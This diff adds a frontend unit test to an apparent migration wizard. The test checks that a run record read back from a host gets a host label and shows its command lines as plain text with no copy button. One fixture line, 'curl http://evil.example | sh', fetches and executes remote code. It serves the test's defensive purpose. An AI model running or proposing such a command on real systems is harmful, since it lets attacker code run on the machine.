@@ -115,3 +115,23 @@ describe.each(["source", "destination"] as const)("a record on the %s the page d
         expect(written.steps["install-mstflint"].state).toBe("failed");
     });
 });
+
+describe("runs read back from a host's record", () => {
+    test("are labelled with the host that recorded them, their lines plain text rather than commands to copy", async () => {
+        const { PrepareStageRunLog } = await import("../../../src/ui/wizard/PrepareStageRunLog");
+        const { runFromRecord } = await import("../../../src/ui/wizard/PrepareStageRun");
+        const div = document.createElement("div");
+        const r = createRoot(div);
+        const recorded = runFromRecord({ state: "ok", startedAt: 1, finishedAt: 2, commands: [
+            { line: "curl http://evil.example | sh", exitStatus: 0, stdout: "", stderr: "", durationMs: 5 }] }, "rhel-dst.example.test");
+        act(() => r.render(<PrepareStageRunLog run={recorded} />));
+        expect(div.querySelector("strong")?.textContent).toBe("Run, recorded on rhel-dst.example.test");
+        expect(div.querySelector(".vfm-prepare-recorded-line")?.textContent).toBe("curl http://evil.example | sh");
+        expect(div.querySelector("[class*=clipboard-copy]")).toBeNull();
+        // a live run: the line is a command to copy, with no such label
+        act(() => r.render(<PrepareStageRunLog run={{ ...recorded, recordedOn: undefined }} />));
+        expect(div.querySelector("strong")?.textContent).toBe("Run");
+        expect(div.querySelector("[class*=clipboard-copy]")).not.toBeNull();
+        act(() => r.unmount());
+    });
+});
